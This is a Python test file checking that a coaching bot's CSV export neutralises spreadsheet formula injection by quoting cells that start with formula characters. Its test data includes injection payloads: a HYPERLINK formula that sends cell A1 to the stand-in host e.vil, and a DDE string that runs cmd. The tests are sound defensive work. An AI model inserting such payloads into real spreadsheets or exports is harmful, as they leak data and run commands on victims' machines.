"""CSV exports never hand a spreadsheet a formula (audit finding 5, the OWASP rule).

A spreadsheet evaluates a cell whose text starts with ``=``, ``+``, ``-`` or ``@`` (and, in
some, a tab or carriage return before one). The export prefixes such text with ``'``, which
every spreadsheet shows as text. These tests parse the CSV back exactly as a spreadsheet
import would split it and check that no cell starts with a formula character, except plain
decimal numbers (``-5``), which a spreadsheet reads as numbers, not formulas.
"""

from __future__ import annotations

import csv
import io
import re
from datetime import UTC, datetime

import pytest

from bot.catalog import load_checked_catalog
from bot.clock import FrozenClock
from bot.coach import Coach
from bot.engine import Catalog
from bot.export.data import csv_cell, to_csv
from bot.export.summary import CheckInItem, CommitmentItem, RawAnswer, Summary
from bot.rendering import Renderer, Target
from bot.storage import Database
from tests.coach.helpers import ADA, last_question, say, start
from tests.conftest import REPO

_RENDERER = Renderer(load_checked_catalog(REPO / "flows", REPO / "content"))
HOSTILE = [
    "=1+1",
    '=HYPERLINK("http://e.vil/?"&A1,"Click")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
    "\t=1",
    "\r=1",
]
FORMULA = ("=", "+", "-", "@", "\t", "\r")
NUMBER = re.compile(r"-?[0-9]+(?:\.[0-9]+)?")


def cells(raw: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(raw.decode("utf-8-sig"), newline="")))


def assert_inert(table: list[list[str]]) -> None:
    for row in table:
        for cell in row:
            runs = cell.startswith(FORMULA) and not NUMBER.fullmatch(cell)
            assert not runs, f"a spreadsheet would evaluate {cell!r} in {row}"


@pytest.fixture
def coach(db: Database, real_catalog: Catalog, clock: FrozenClock) -> Coach:
    """A Coach over every flow, on either backend (the suite's ``db``)."""
    return Coach(db, real_catalog, clock)


async def test_a_founders_hostile_answers_are_text_in_the_csv(coach: Coach) -> None:
    """Name, startup and pitch typed as formulas come back as text, every character kept."""
    replies = await start(coach, ADA)
    typed = {
        "name": "=1+1",
        "startup": '=HYPERLINK("http://e.vil/?"&A1,"Click")',
        "pitch": "+cmd|' /C calc'!A0 and @SUM(1+1) and -2+3",
    }
    answers = {**typed, "stage": "2", "sector": "vertical_ai", "team_size": "4",
               "timezone": "Berlin", "language": "English"}  # fmt: skip
    for _ in range(12):
        question = last_question(replies)
        if question.type == "review":
            replies = await say(coach, ADA, "1")
            break
        replies = await say(coach, ADA, answers[question.step])
    await say(coach, ADA, "/export")
    [file] = [r.file for r in await say(coach, ADA, "4") if r.file is not None]
    table = cells(file.data)
    assert_inert(table)
    values = {row[2]: row[3] for row in table[1:] if row[0] == "Answer"}
    for question, text in zip(("Name", "Startup", "Pitch"), typed.values(), strict=True):
        assert values[question] == "'" + text  # shown as typed, with the quote that disarms it


def WORDS(key: str, **context: object) -> str:
    """The English export words, hostile-free (the header and fixed labels)."""
    return str(_RENDERER.ui(f"export.{key}", "en", Target.PLAIN, **context))


def test_every_text_column_is_neutralised() -> None:
    """Commitment texts, outcomes and notes too, for each formula character."""
    at = datetime(2026, 3, 2, 9, tzinfo=UTC)
    checkins = [
        CheckInItem(
            id=i,
            kind="commitment",
            due_at=at,
            due_local="2026-03-09 09:00",
            status="answered",
            outcome=text,
            note=text,
        )
        for i, text in enumerate(HOSTILE, start=1)
    ]
    summary = Summary(
        generated_at=at,
        locale="en",
        founder="Ada",
        timezone="UTC",
        answers=[
            RawAnswer(
                run_id=1, flow="team", step=text, value=[text, text], revision=1, answered_at=at
            )
            for text in HOSTILE
        ],
        commitments=[
            CommitmentItem(
                id=1,
                topic="=team",
                text=HOSTILE[1],
                status="open",
                created_at=at,
                checkins=checkins,
            )
        ],
        checkins=checkins,
    )
    table = cells(to_csv(summary, WORDS))
    assert len(table) == 1 + 2 * len(HOSTILE)
    assert_inert(table)
    checkin_rows = [row for row in table if row[0] == "Check-in"]
    assert [row[8] for row in checkin_rows] == ["'" + text for text in HOSTILE]
    assert [row[7] for row in checkin_rows] == ["'" + text for text in HOSTILE]
    answer_rows = [row for row in table if row[0] == "Answer"]
    assert [row[2] for row in answer_rows] == ["'" + text for text in HOSTILE]  # no label: id
    assert [row[3] for row in answer_rows] == ["'" + f"{text}; {text}" for text in HOSTILE]


@pytest.mark.parametrize(
    ("value", "cell"),
    [
        (-5, "-5"),  # a genuine negative number stays a number
        ("-1200.50", "-1200.50"),
        (12, "12"),
        ("-5 users", "'-5 users"),
        ("-2+3", "'-2+3"),
        ("+5", "'+5"),
        ("1e3", "1e3"),
        (-1e-05, "-1e-05"),
        ("a=b", "a=b"),
        ("", ""),
        (None, ""),
    ],
)
def test_plain_numbers_stay_numbers(value: object, cell: str) -> None:
    assert csv_cell(value) == cell
